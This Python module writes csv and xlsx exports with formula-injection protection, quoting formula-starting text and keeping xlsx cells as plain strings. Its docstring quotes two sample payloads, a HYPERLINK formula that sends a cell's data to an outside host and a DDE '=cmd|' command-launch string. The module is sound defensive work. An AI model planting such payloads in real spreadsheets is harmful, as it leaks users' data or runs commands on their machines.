"""Every csv and xlsx file the project writes is written through this module, so that no
export carries a formula (issue 13, item 4; OWASP "CSV Injection").

Text typed into a form or sent to the API may start with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return: ``=HYPERLINK("http://x/?d="&A2,"点击")`` as an address, or
``=cmd|' /C calc'!A0`` as an employer. A spreadsheet program opening the export would run
it. So:

- xlsx: text is always a string cell, never a formula (openpyxl turns any str starting
  with ``=`` into a formula cell), with Excel's "quote prefix" set on such cells so that
  editing the cell in Excel keeps it text. The value is unchanged.
- csv: text starting with one of those characters gets the neutralising prefix OWASP
  describes, a single quote (``'=1+2``), and every text field is quoted, so that a
  separator inside a cell (``a;=1+2`` read with ``;`` as the list separator) cannot
  start a new cell. Numbers written as numbers are not text and get no prefix.

Reading back (``liudong.tabular``) undoes exactly what was added: :func:`from_csv_text`
removes one quote where :func:`csv_text` would have put one, so an export imports back
unchanged (a phone ``+8613800000000`` or a note ``-1`` included), and a legitimate
value that happens to start with a quote (``'0571``) is left alone.

What this module owns: the writers. What it must not do: read files (``tabular``).
``tests/test_safesheet.py`` fails when any other module writes csv or xlsx itself.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any, cast

from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet program takes as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Text the csv writer prefixes: a formula start, after any number of quotes. The quotes
# matter: without them "'=x" written as is would read back as "=x".
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
# Text the csv reader un-prefixes: what the writer made of the above (one quote more).
_QUOTED = re.compile(r"'+[=+\-@\t\r]")

CSV_ENCODING = "utf-8-sig"  # with BOM, so that Excel shows Chinese


def csv_text(value: Any) -> Any:
    """``value`` as a csv cell: text that could start a formula gets a leading quote."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value):
        return "'" + value
    return value


def from_csv_text(text: str) -> str:
    """The inverse of :func:`csv_text` for a cell read from a csv file."""
    return text[1:] if _QUOTED.match(text) else text


class CsvWriter:
    """``csv.writer`` with every row's text neutralised and every text field quoted."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def _as_text(cell: Cell) -> Cell:
    """A cell holding text that a spreadsheet could take for a formula, made plain text."""
    if cell.data_type == "f":
        cell.data_type = "s"
    if cell.data_type == "s" and isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS:
        # Excel's own "this is text" flag: typing over the cell keeps it text.
        cell.quotePrefix = True
    return cell


def _needs_cell(value: Any) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_STARTS and value != ""


# What XML 1.0, and so xlsx, cannot hold: C0 controls but tab and line breaks. New values
# never hold one (liudong.controlchars refuses them); one stored before that must not
# make the whole export fail, so it shows as U+FFFD, visibly not the original.
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def _storable(value: Any) -> Any:
    if isinstance(value, str) and _NOT_IN_XLSX.search(value):
        return _NOT_IN_XLSX.sub(REPLACEMENT, value)
    return value


class _TextWriteOnlySheet(WriteOnlyWorksheet):
    """A streamed sheet whose appended text is never a formula."""

    def append(self, row: Iterable[object]) -> None:
        cells = []
        for value in row:
            if isinstance(value, Cell):
                value = _as_text(value)
            else:
                value = _storable(value)
                if _needs_cell(value):
                    value = _as_text(WriteOnlyCell(self, value))
            cells.append(value)
        super().append(cells)


class _TextSheet(Worksheet):
    """An ordinary sheet whose appended rows hold only what xlsx can store (formulas are
    turned into text when the workbook is saved: a cell may also be set directly)."""

    def append(self, iterable: Iterable[object]) -> None:
        if isinstance(iterable, list | tuple):
            iterable = [
                value if isinstance(value, Cell) else _storable(value) for value in iterable
            ]
        super().append(iterable)


class Workbook(_OpenpyxlWorkbook):
    """openpyxl's workbook whose text is always text: streamed sheets (``write_only``)
    convert each appended row; ordinary sheets are swept when the workbook is saved."""

    def __init__(self, write_only: bool = False, iso_dates: bool = False) -> None:
        super().__init__(write_only=write_only, iso_dates=iso_dates)
        if not write_only:
            self._sheets[0] = _TextSheet(self)  # instead of openpyxl's first, empty sheet

    def create_sheet(self, title: str | None = None, index: int | None = None) -> Worksheet:
        kind = _TextWriteOnlySheet if self.write_only else _TextSheet
        sheet = kind(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename: str | Path | IO[bytes]) -> None:
        if not self.write_only:
            for sheet in self.worksheets:
                for cell in sheet._cells.values():
                    _as_text(cell)
        super().save(filename)


def write_table(
    target: str | Path | IO[Any],
    header: list[str],
    rows: Iterable[Iterable[object]],
    *,
    sheet_title: str = "Sheet1",
) -> None:
    """Write csv (UTF-8 with BOM) or xlsx, by the file suffix; a binary stream (not a
    path) gets xlsx, a text stream (``sys.stdout``) csv."""
    from pathlib import Path

    if hasattr(target, "write") and not _is_binary(cast(IO[Any], target)):
        writer = CsvWriter(cast(IO[str], target))
        writer.writerow(header)
        writer.writerows(rows)
        return
    if not hasattr(target, "write") and Path(target).suffix.lower() != ".xlsx":
        with Path(target).open("w", encoding=CSV_ENCODING, newline="") as handle:
            write_table(handle, header, rows)
        return
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title)
    sheet.append(header)
    for row in rows:
        sheet.append(list(row))
    workbook.save(target)


def _is_binary(stream: IO[Any]) -> bool:
    import io

    return isinstance(stream, io.BufferedIOBase | io.RawIOBase) or "b" in getattr(
        stream, "mode", ""
    )
